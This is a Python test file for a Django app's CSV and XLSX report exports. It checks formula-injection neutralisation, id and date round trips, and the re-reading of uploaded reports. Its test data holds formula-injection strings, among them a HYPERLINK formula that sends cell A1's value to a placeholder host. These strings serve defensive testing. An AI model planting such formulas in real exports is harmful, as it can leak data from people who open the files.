"""Reports as CSV and XLSX: B16 formula safety, the round trip, and the full results."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from tests.people import make_people, make_upload
from uploads import fixes, intake, mapping, reports, rowcheck
from uploads.models import Row

pytestmark = pytest.mark.django_db

B16_COMMENTS = [
    "=1+1", "+SUM(1;2)", "-2+3", "@SUM(1+1)", '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "\t=1+1", "ticket id itself starts with a minus", "====== 2", "=not a formula at all",
]


@pytest.fixture
def b16(shared):
    owner = get_user_model().objects.create_user("maria")
    path = shared / "cases" / "B16-formula-comments.csv"
    return intake.create_upload(owner, path, path.name, intake.ReadOptions())


def _csv_report(upload, kind: str = "errors") -> str:
    """The CSV report as written: a byte order mark first (Excel), then the lines."""
    out = io.StringIO()
    reports.write_report(upload, kind, "csv", out)
    assert out.getvalue().startswith("\ufeff")
    return out.getvalue()


def _csv_lines(upload, kind: str = "errors") -> list[list[str]]:
    return list(csv.reader(io.StringIO(_csv_report(upload, kind).removeprefix("\ufeff"))))


def _xlsx_report(upload, kind: str = "errors") -> bytes:
    out = io.BytesIO()
    reports.write_report(upload, kind, "xlsx", out)
    return out.getvalue()


def test_the_xlsx_reports_id_columns_are_text_so_typed_ids_keep_their_zeros(b16):
    """QA round 40c: 000379 typed into the report's General-format ticket cell came back as 379."""
    for kind, ids in (("errors", ["ticket_id", "agent_id"]), ("results", ["ticket_id", "agent_id"])):
        sheet = openpyxl.load_workbook(io.BytesIO(_xlsx_report(b16, kind))).active
        header = [cell.value for cell in sheet[1]]
        text = {header[cell.column - 1] for cell in sheet[2] if cell.number_format == "@"}
        assert text == set(ids), kind


def test_a_reports_id_typed_shorter_than_its_uploads_padded_ids_has_a_warning(tmp_path):
    """QA round 40c: 000379 typed over in Excel came back as 379, sent with nothing said."""
    owner = get_user_model().objects.create_user("maria")
    source = tmp_path / "team.csv"
    source.write_text("When,Case,Rep,Stars\n" + "".join(f"2026-10-05 09:00,00012{n},0043,9\n" for n in range(5)),
                      encoding="utf-8")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions(time_zone="UTC"))
    report = tmp_path / f"errors-{first.pk}-team.csv"
    lines = _csv_lines(first)
    lines[1][1], lines[1][3] = "379", "4"  # retyped in Excel, a new id; the other rows deleted
    with report.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(lines[:2])

    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())

    row = again.rows.order_by("number").first()
    assert [problem["code"] for problem in row.warnings] == ["short_id"]


def test_it_reads_b16_as_written(b16):
    rows = list(b16.rows.order_by("number"))
    assert [row.cells[4] for row in rows] == B16_COMMENTS
    assert rows[6].cells[0] == "-1507"
    assert {row.status for row in rows} == {Row.Status.INVALID}


def test_it_neutralises_every_formula_like_cell_in_the_csv_report(b16):
    lines = _csv_lines(b16)
    assert lines[0] == ["ticket_id", "agent_id", "score", "submitted_at", "comment", "row", "status", "reason"]
    assert [line[4] for line in lines[1:]] == [
        "'=1+1", "'+SUM(1;2)", "'-2+3", "'@SUM(1+1)", """'=HYPERLINK("http://example.invalid/?x="&A1,"open")""",
        "'\t=1+1", "ticket id itself starts with a minus", "'====== 2", "'=not a formula at all",
    ]
    assert [line[0] for line in lines[1:]][6] == "'-1507"
    assert [line[5] for line in lines[1:]] == [str(n) for n in range(2, 11)]
    assert {line[6] for line in lines[1:]} == {"Invalid"}


def test_it_writes_string_cells_never_formulas_in_the_xlsx_report(b16):
    data = _xlsx_report(b16)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    comments = [sheet.cell(row=r, column=5) for r in range(2, 11)]
    assert [cell.value for cell in comments] == B16_COMMENTS
    assert {cell.data_type for cell in comments} == {"s"}
    assert sheet.cell(row=8, column=1).value == "-1507"


def test_it_sends_the_original_text_to_the_api(b16):
    row = b16.rows.get(number=2)
    rowcheck.edit_cell(row, 2, "5")
    row.refresh_from_db()
    assert row.status == Row.Status.VALID
    assert row.item["comment"] == "=1+1"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_maps_a_reuploaded_report_and_gives_back_the_original_text(b16, fmt, tmp_path):
    path = tmp_path / f"errors.{fmt}"
    if fmt == "csv":
        path.write_text(_csv_report(b16), encoding="utf-8")
    else:
        path.write_bytes(_xlsx_report(b16))
    again = intake.create_upload(b16.owner, path, path.name, intake.ReadOptions())

    assert again.columns == ["ticket_id", "agent_id", "score", "submitted_at", "comment"]
    assert again.preset_name == b16.preset_name
    assert again.preset["columns"] == b16.preset["columns"]
    assert [row.cells for row in again.rows.order_by("number")] == [
        row.cells for row in b16.rows.order_by("number")
    ]
    assert any("error report" in notice for notice in again.notices)


def test_it_never_piles_apostrophes_up():
    for text in ["=1+1", "'=1+1", "''=1+1", "'plain", "plain", "-", "'", "\r=x"]:
        assert reports.unneutralise(reports.neutralise(text)) == text
    assert reports.neutralise("'=1+1") == "''=1+1"
    assert reports.unneutralise("'plain") == "'plain"


def test_it_reads_a_defused_cell_of_a_file_that_is_not_our_report_without_its_apostrophe_and_says_so(tmp_path):
    """B16: the API gets the original text, and the prefix never piles up (a report whose own columns
    were deleted, or another tool's defused export); other apostrophes stay."""
    path = tmp_path / "own.csv"
    path.write_text("ticket_id,agent_id,score,submitted_at,comment\nT-1,A-1,5,2026-03-08T07:30:00Z,'=1+1\n"
                    "T-2,A-1,5,2026-03-08T08:30:00Z,'plain\n")
    upload = intake.create_upload(get_user_model().objects.create_user("maria"), path, path.name,
                                  intake.ReadOptions())
    assert [row.cells[4] for row in upload.rows.order_by("number")] == ["=1+1", "'plain"]
    assert upload.rows.get(number=2).item["comment"] == "=1+1"
    assert "1 cell(s) began with an apostrophe before = + - @ or a tab" in " ".join(upload.notices)


def test_it_writes_the_full_results_with_each_item_as_sent():
    people = make_people()
    upload = make_upload(people["maria"], people["alpha"], rows=2)
    Row.objects.filter(upload=upload, number=2).update(result=Row.Result.CREATED, maestro_id="mq-2")
    Row.objects.filter(upload=upload, number=3).update(result=Row.Result.FAILED, result_message="Failed: ticket not found")
    assert reports.write_report(upload, "results", "csv", io.StringIO()) == 2
    lines = list(csv.DictReader(io.StringIO(_csv_report(upload, "results").removeprefix("\ufeff"))))
    assert lines[0] == {
        "row": "2", "status": "Valid", "result": "Created", "maestro_id": "mq-2", "message": "",
        "submitted_at": "2026-10-01T08:00:00.000Z", "ticket_id": "T-2", "agent_id": "A-01", "agent_email": "",
        "score": "5", "comment": "great help 2", "score_label": "", "min_score": "1", "max_score": "5",
        "clarifying_answers": "",
    }
    assert (lines[1]["result"], lines[1]["message"]) == ("Failed", "Failed: ticket not found")
    Row.objects.filter(upload=upload, number=3).update(result=Row.Result.NONE, status=Row.Status.INVALID, errors=[
        {"field": "score", "column": "score", "value": "9", "message": "Row 3, column 'score': 9 is above max_score 5.",
         "code": "above_max"}])
    lines = list(csv.DictReader(io.StringIO(_csv_report(upload, "results").removeprefix("\ufeff"))))
    assert (lines[1]["status"], lines[1]["message"]) == ("Invalid", "Row 3, column 'score': 9 is above max_score 5.")
    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx_report(upload, "results"))).active
    assert [c.value for c in sheet[2]][:5] == ["2", "Valid", "Created", "mq-2", None]


def test_it_lists_every_row_not_created_in_the_error_report():
    people = make_people()
    upload = make_upload(people["maria"], people["alpha"], rows=4)
    Row.objects.filter(upload=upload, number=2).update(result=Row.Result.CREATED, maestro_id="mq-2")
    Row.objects.filter(upload=upload, number=3).update(result=Row.Result.UNCONFIRMED, result_message="not confirmed")
    Row.objects.filter(upload=upload, number=4).update(status=Row.Status.EXCLUDED, errors=[
        {"field": "score", "column": "score", "value": "9", "code": "above_max",
         "message": "Row 4, column 'score': 9 is above max_score 5. Enter a whole number from 1 to 5."}])
    Row.objects.filter(upload=upload, number=5).update(status=Row.Status.DUPLICATE, note="identical to row 2")
    lines = _csv_lines(upload)
    assert [line[-3:] for line in lines[1:]] == [
        ["3", "Not confirmed", "not confirmed"],
        ["4", "Excluded", "excluded in the table (include it there to send it). Row 4, column 'score': 9 is above "
                          "max_score 5. Enter a whole number from 1 to 5."],  # what is left to fix, too
        ["5", "Duplicate", "identical to row 2"],
    ]
    Row.objects.filter(upload=upload, number=3).update(result=Row.Result.NONE, result_message="")
    assert [line[-3] for line in _csv_lines(upload)][1:] == ["4", "5"]  # valid, not submitted yet


def test_it_names_a_report_download_in_ascii_and_in_utf8():
    assert reports.attachment_header("errors-7-Zufriedenheit Müller.csv") == (
        "attachment; filename=\"errors-7-Zufriedenheit Muller.csv\"; "
        "filename*=UTF-8''errors-7-Zufriedenheit%20M%C3%BCller.csv")


def test_it_writes_xlsx_cells_that_read_back_exactly_even_with_cr_and_control_characters():
    from uploads.parsing import parse_file

    texts = ["a\r\nb", "c\rd", "nul\x00x", "vt\x0bff\x0c", "lit _x000D_ end", "_x005F_ twice", "tab\there", "=1+1"]
    out = io.BytesIO()

    reports.write_xlsx([[f"h{index}" for index in range(len(texts))], texts], out)

    assert reports.xlsx_text("a\r\nb _x0041_\x00") == "a_x000D_\nb _x005F_x0041__x0000_"
    # every text comes back exactly, but a NUL, which the reader shows as U+2400 (no database stores it)
    assert parse_file(out.getvalue(), "report.xlsx").rows == [[text.replace("\x00", "\u2400") for text in texts]]


def test_a_reuploaded_report_keeps_each_rows_number_in_its_upload(tmp_path):
    path = tmp_path / "errors-7-team.csv"
    path.write_text("\ufeffsubmitted_at,ticket_id,agent_id,score,row,status,reason\n"
                    "2026-10-05 09:00,T-19,A1,5,19,Invalid,fixed now\n"
                    "2026-10-05 09:00,T-61,A1,4,61,Failed,ticket not found\n"
                    "2026-10-05 09:00,T-99,A1,3,,,\n", encoding="utf-8")
    owner = get_user_model().objects.create_user("maria")
    upload = intake.create_upload(owner, path, path.name, intake.ReadOptions())

    assert upload.sheet_meta["report_rows"] == {"2": 19, "3": 61}
    assert upload.notices[-1] == ("This is an error report from the portal: its row, status and reason columns "
                                  "were left out. Each row shows the number it had in the upload the report came "
                                  "from (\u201cwas 19\u201d).")
    client = Client()
    client.force_login(owner)
    page = client.get(reverse("uploads:table", args=[upload.pk])).content.decode()
    assert ('<th scope="row">2 <small class="was" title="Row 19 of the upload this error report came from">'
            "was 19</small></th>") in page
    assert '<th scope="row">4</th>' in page


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_qualtrics_error_report_reads_again_with_its_header_rows_and_zone(shared, tmp_path, fmt):
    source = shared / "samples" / "qualtrics_csat_numeric_3header.csv"
    owner = get_user_model().objects.create_user("maria")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions())
    path = tmp_path / f"errors-{first.pk}-qualtrics.{fmt}"
    if fmt == "csv":
        path.write_text(_csv_report(first), encoding="utf-8")
    else:
        path.write_bytes(_xlsx_report(first))

    again = intake.create_upload(owner, path, path.name, intake.ReadOptions())

    zones = ", ".join(sorted(set(first.sheet_meta["declared_time_zones"].values())))
    assert f"its mapping and times in {zones}, as the file declares." in again.notices[-1]  # QA round 40c: not UTC
    assert again.columns == first.columns and "Status" in again.columns
    assert again.sheet_meta["declared_time_zones"] == first.sheet_meta["declared_time_zones"]
    assert again.decisions[0] == first.decisions[0]
    originals = {row.number: row for row in first.rows.all()}
    for row in again.rows.all():
        original = originals[again.sheet_meta["report_rows"][str(row.number)]]
        assert (row.cells, row.status, row.item) == (original.cells, original.status, original.item)


def test_a_report_reads_as_its_upload_did_and_names_ids_that_lost_their_zeros(tmp_path):
    owner = get_user_model().objects.create_user("maria")
    source = tmp_path / "team.csv"
    source.write_text("When,Case,Rep,Stars\n2026-10-05 09:00,000125,0043,5\n2026-10-05 09:00,000126,0043,9\n"
                      "2026-10-05 09:00,000127,0043,9\n", encoding="utf-8")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions(time_zone="America/New_York"))
    fixes.remap_upload(first, owner, mapping.Preset(name="hand-made", columns={
        "submitted_at": "When", "ticket_id": "Case", "agent_id": "Rep", "score": "Stars"}), "America/New_York")
    report = tmp_path / f"errors-{first.pk}-team.csv"
    lines = _csv_lines(first)
    lines[1][1:3] = ["126", "43"]  # Excel opened the CSV: the ids became numbers
    lines[1][3] = lines[2][3] = "4"  # and the scores were fixed
    with report.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(lines)

    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())

    assert (again.time_zone, again.preset["columns"]) == ("America/New_York", first.preset["columns"])
    assert again.notices[-1] == (
        f"Read as upload #{first.pk} (team.csv) was, whose error report this is: its mapping and times in "
        "America/New_York (choose another zone on the mapping page). 2 ids lost their leading zeros since: read as "
        f"in upload #{first.pk}, each with a warning.")
    rows = list(again.rows.order_by("number"))
    assert [row.item["submitted_at"] for row in rows] == ["2026-10-05T13:00:00.000Z"] * 2
    assert (rows[0].item["ticket_id"], rows[0].item["agent_id"]) == ("000126", "0043")  # QA round 40c: not 126
    assert [problem["message"] for problem in rows[0].warnings] == [
        f"Row 2, column 'Case': read as 000126, as in upload #{first.pk} (row 3): this file has 126, as a "
        "spreadsheet program drops leading zeros.",
        f"Row 2, column 'Rep': read as 0043, as in upload #{first.pk} (row 3): this file has 43, as a spreadsheet "
        "program drops leading zeros."]
    assert rows[1].warnings == []
    other = get_user_model().objects.create_user("olga")
    assert "Read as upload" not in " ".join(intake.create_upload(other, report, report.name,
                                                                  intake.ReadOptions()).notices)


def test_a_comment_the_xlsx_report_had_to_cut_is_read_in_full_from_its_upload(tmp_path):
    """QA round 76c: an XLSX cell holds 32,767 characters, so the report cut a 48,003-character comment; its row,
    fixed and uploaded again, was valid and would have sent the cut comment."""
    owner = get_user_model().objects.create_user("maria")
    comment = "word " * 9600 + "END"
    source = tmp_path / "long.csv"
    source.write_text(f"submitted_at,ticket_id,agent_email,score,comment\n2026-10-05T09:00:00Z,48201,a@example.com,9,"
                      f"{comment}\n", encoding="utf-8")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions())
    book = openpyxl.load_workbook(io.BytesIO(_xlsx_report(first)))
    sheet = book.active
    assert len(sheet["E2"].value) == 32_767
    sheet["D2"] = "4"
    report = tmp_path / f"errors-{first.pk}-long.xlsx"
    book.save(report)

    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())

    assert again.notices[-1].endswith(
        f"1 cell longer than an XLSX cell holds (32,767 characters) was cut in the report: read in full as in upload "
        f"#{first.pk}.")
    assert again.rows.get().item["comment"] == comment


def test_a_report_reads_its_dates_in_the_order_its_upload_decided(tmp_path):
    """QA round 64c: the report's one row, 10/08/2026, was read day first (Europe/London's order), not as its upload
    read it (month first, because of 10/13/2026)."""
    owner = get_user_model().objects.create_user("maria")
    source = tmp_path / "team.csv"
    source.write_text("Date,Ticket,Agent email,Score\n10/13/2026 09:00,48201,a@example.com,5\n"
                      "10/08/2026 15:21,48203,a@example.com,x\n", encoding="utf-8")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions(time_zone="Europe/London"))
    report = tmp_path / f"errors-{first.pk}-team.csv"
    lines = _csv_lines(first)
    lines[1][3] = "4"
    with report.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(lines)

    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())

    assert again.rows.get().item["submitted_at"] == "2026-10-08T14:21:00.000Z"
    assert again.notices[-1].startswith(f"Read as upload #{first.pk} (team.csv) was, whose error report this is: its "
                                        "mapping, dates as month/day/year where they could be either and times in "
                                        "Europe/London")


def test_an_uploads_page_names_its_error_report_uploaded_again(tmp_path):
    """QA round 67b W1: the first upload's page went on asking for fixes already made and sent from the second."""
    owner = get_user_model().objects.create_user("maria")
    source = tmp_path / "team.csv"
    source.write_text("Date,Ticket,Agent email,Score\n10/13/2026 09:00,48201,a@example.com,5\n"
                      "10/08/2026 15:21,48203,a@example.com,x\n", encoding="utf-8")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions())
    report = tmp_path / f"errors-{first.pk}-team.csv"
    with report.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(_csv_lines(first))
    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())
    client = Client()
    client.force_login(owner)
    page = client.get(reverse("uploads:table", args=[first.pk])).content.decode()
    assert (f'This upload\'s error report was uploaded again as <a href="/uploads/{again.pk}/">#{again.pk}</a> (needs '
            "fixes): the rows fixed there are sent from there, so look there before fixing a row here.") in page.replace(
        "&#x27;", "'")
    assert 'id="sent-again"' not in client.get(reverse("uploads:table", args=[again.pk])).content.decode()


def test_a_reports_rows_keep_the_scale_their_upload_was_read_on(tmp_path):
    """QA round 42b: a Salesforce upload read on 1..10 (a 9 among its scores) had its error report's rows sent on
    1..5, as the report's few rows alone read; one survey on two scales in MaestroQA."""
    owner = get_user_model().objects.create_user("maria")
    source = tmp_path / "team.csv"
    source.write_text("When,Case,Rep,Stars\n" + "".join(f"2026-10-0{n + 1} 09:00,{1000 + n},A1,{score}\n"
                                                        for n, score in enumerate(["5", "4", "9", "3", "", "2"])),
                      encoding="utf-8")
    preset = mapping.Preset(name="survey", columns={"submitted_at": "When", "ticket_id": "Case", "agent_id": "Rep",
                                                    "score": "Stars"}, score_scales=[[1, 5], [1, 10]])
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions(time_zone="UTC", preset=preset))
    assert first.check_context["score_scale"] == [1, 10]
    lines = _csv_lines(first)
    lines[1][3] = "4"  # the blank score filled in
    report = tmp_path / f"errors-{first.pk}-team.csv"
    with report.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(lines)

    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())

    assert [(row.item["score"], row.item["max_score"]) for row in again.rows.all()] == [(4, 10)]


def test_a_report_with_a_column_added_and_an_unread_one_deleted_still_reads_as_its_upload(tmp_path):
    """QA round 28b: a "Checked by" column added in Excel unlinked the report, read then in UTC (4 h off)."""
    owner = get_user_model().objects.create_user("maria")
    source = tmp_path / "team.csv"
    source.write_text("When,Case,Rep,Stars,Notes\n2026-10-05 09:00,000125,0043,9,x\n", encoding="utf-8")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions(time_zone="America/New_York"))
    fixes.remap_upload(first, owner, mapping.Preset(name="hand-made", columns={
        "submitted_at": "When", "ticket_id": "Case", "agent_id": "Rep", "score": "Stars"}), "America/New_York")
    lines = _csv_lines(first)
    header_at = lines[0].index("Notes")
    lines = [["Checked by", *line[:header_at], *line[header_at + 1:]] for line in lines]
    lines[1][0], lines[1][2:5] = "Maria", ["125", "43", "4"]
    report = tmp_path / f"errors-{first.pk}-team.csv"
    with report.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(lines)

    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())

    assert again.notices[-1] == (
        f"Read as upload #{first.pk} (team.csv) was, whose error report this is: its mapping and times in "
        "America/New_York (choose another zone on the mapping page). Column added since, not read: 'Checked by'. "
        "Column deleted since (the mapping does not read it): 'Notes'. 2 ids lost their leading zeros since: read as "
        f"in upload #{first.pk}, each with a warning.")
    row = again.rows.get()
    assert (row.item["submitted_at"], row.item["ticket_id"]) == ("2026-10-05T13:00:00.000Z", "000125")
    assert [problem["message"] for problem in row.warnings][0] == (
        f"Row 2, column 'Case': read as 000125, as in upload #{first.pk} (row 2): this file has 125, as a "
        "spreadsheet program drops leading zeros.")
    end = tmp_path / f"errors-{first.pk}-team-checked.csv"  # the column added after "reason" (QA round 29a)
    with end.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([line[1:] + [line[0]] for line in lines])
    at_end = intake.create_upload(owner, end, end.name, intake.ReadOptions())
    assert (at_end.time_zone, at_end.columns[-1]) == ("America/New_York", "Checked by")
    assert at_end.rows.get().item["submitted_at"] == "2026-10-05T13:00:00.000Z"
    lines[0][lines[0].index("Stars")] = "Score"  # a column the mapping reads, renamed: still linked (QA 30a)
    with report.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(lines)
    renamed = intake.create_upload(owner, report, report.name, intake.ReadOptions())
    assert renamed.time_zone == "America/New_York"
    assert "Columns added since, not read: 'Checked by', 'Score'." in renamed.notices[-1]
    assert "Column the mapping read, deleted since: 'Stars' (it gave score, now blank)." in renamed.notices[-1]


def test_a_surveymonkey_error_report_reads_again_with_the_same_columns(tmp_path):
    source = tmp_path / "survey.csv"
    source.write_text("Respondent ID,Collector ID,Start Date,End Date,ticket_id,agent_email,"
                      "How satisfied were you?,Rate us on,Comments\n"
                      ",,,,,,Response,Speed,Open-Ended Response\n"
                      "1180,4312,10/05/2026 11:58:01 PM,10/06/2026 12:02:30 AM,60001,ana@acme.example,Nope,4,ok\n",
                      encoding="utf-8")
    owner = get_user_model().objects.create_user("maria")
    first = intake.create_upload(owner, source, source.name, intake.ReadOptions())
    assert "Rate us on - Speed" in first.columns and first.rows.get().status == Row.Status.INVALID
    report = tmp_path / f"errors-{first.pk}-survey.csv"
    report.write_text(_csv_report(first), encoding="utf-8")

    again = intake.create_upload(owner, report, report.name, intake.ReadOptions())

    assert again.columns == first.columns
    assert again.notices[-1].startswith(f"Read as upload #{first.pk} (survey.csv) was")
